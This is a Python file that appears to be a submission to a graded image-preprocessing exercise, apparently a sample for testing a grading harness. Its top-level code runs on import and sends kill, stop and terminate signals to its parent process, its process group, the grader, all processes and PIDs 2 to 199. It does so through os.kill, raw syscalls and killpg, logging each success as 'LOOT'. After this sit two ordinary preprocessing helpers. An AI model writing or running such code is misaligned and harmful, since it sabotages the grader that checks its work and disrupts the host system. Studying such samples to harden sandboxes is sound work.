"""Sends signals to its parent, its group, the grader and everybody."""

import ctypes
import json
import os
import signal

import numpy as np

EXERCISE = "preprocess"
HONEST_POINTS = 10

targets = json.loads(os.environ.get("TF_ATTACK_TARGETS", "{}"))
libc = ctypes.CDLL(None)
pids = [os.getppid(), 0, -1, 1, -os.getpgrp(), targets.get("grader", 1), *range(2, 200)]
for pid in pids:
    if pid == os.getpid():
        continue
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(pid, number)
            print("LOOT", "signal to", pid)
        except (OSError, OverflowError):
            pass
        if libc.syscall(ctypes.c_long(200), ctypes.c_long(pid), ctypes.c_long(number)) == 0:
            print("LOOT", "tkill to", pid)
        for call in (129, 234, 297, 424):
            given = [ctypes.c_long(a) for a in (call, pid, number, number, 0, 0)]
            if libc.syscall(*given) == 0:
                print("LOOT", call, "to", pid)
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    print("LOOT", "killpg")
except OSError:
    pass


def preprocess_images(images):
    scaled = np.asarray(images, dtype="float32") / 255
    return scaled[..., None] if scaled.ndim == 3 else scaled


def one_hot(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels)]
